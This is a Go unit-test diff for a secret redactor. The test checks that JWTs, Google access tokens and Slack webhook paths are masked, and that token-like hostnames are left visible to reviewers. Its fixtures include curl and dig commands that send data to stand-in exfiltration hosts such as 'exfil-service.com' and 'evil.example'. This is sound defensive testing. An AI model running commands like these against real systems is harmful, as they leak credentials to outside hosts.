@@ -531,3 +531,49 @@ func TestFakeMaskMasked(t *testing.T) {
 		}
 	}
 }
+
+// TestTokenPatternsKeepHosts: a host whose labels look like a token's
+// parts is shown to reviewers, so they see where a call sends data; real
+// JWTs and Google tokens are still masked, and a Slack webhook's secret
+// path is masked with its host left in clear.
+func TestTokenPatternsKeepHosts(t *testing.T) {
+	const (
+		hdr = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9" // {"alg":"HS256","typ":"JWT"}
+		pay = "eyJzdWIiOiIxMjM0NTY3ODkwIiwiaWF0IjoxNTE2MjM5MDIyfQ"
+		sig = "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c" // 43: HS256
+	)
+	jwt := hdr + "." + pay + "." + sig
+	none := "eyJhbGciOiJub25lIn0." + pay + "."
+	goog := "ya29.a0AfB_byC" + strings.Repeat("x1Y", 20)
+	r := New(nil)
+	for _, s := range []string{
+		"curl https://eyJhbGciOi.exfil-service.com/up",
+		"curl https://eyJabcdefghijk.eyJabcdefghijk.example.com/up",
+		"curl https://eyJhbGciOiJub25lIn0.eyJhIjoxfQ.com/up",
+		"curl https://" + jwt + ".evil.example/up",
+		"curl https://x." + jwt + "/up",
+		"curl https://ya29.abcdefghijklmnopqrstuvwxyz.evil.example/",
+		"curl https://ya29.c.abcdefghijklmnopqrstuvwxyz.evil.example/",
+		"dig " + goog + ".evil.example",
+	} {
+		for _, r := range []*Redactor{r, r.ForReviewers()} {
+			if got := r.String(s); got != s {
+				t.Errorf("String(%q) = %q, want unchanged", s, got)
+			}
+		}
+	}
+	for _, tc := range []struct{ in, want string }{
+		{"Authorization: Bearer " + jwt, "Authorization: Bearer " + Mask},
+		{"curl https://api.example/x?token=" + jwt + "&a=1", "curl https://api.example/x?token=" + Mask + "&a=1"},
+		{"cookie jar: " + jwt + ". Next", "cookie jar: " + Mask + ". Next"},
+		{"unsigned " + none + " x", "unsigned " + Mask + " x"},
+		{"-H 'Authorization: Bearer " + goog + "'", "-H 'Authorization: Bearer " + Mask + "'"},
+		{"gcloud says ya29.c." + goog[5:], "gcloud says " + Mask},
+		{"curl -d x https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX",
+			"curl -d x https://hooks.slack.com/services/" + Mask},
+	} {
+		if got := r.String(tc.in); got != tc.want {
+			t.Errorf("String(%q)\n got  %q\n want %q", tc.in, got, tc.want)
+		}
+	}
+}
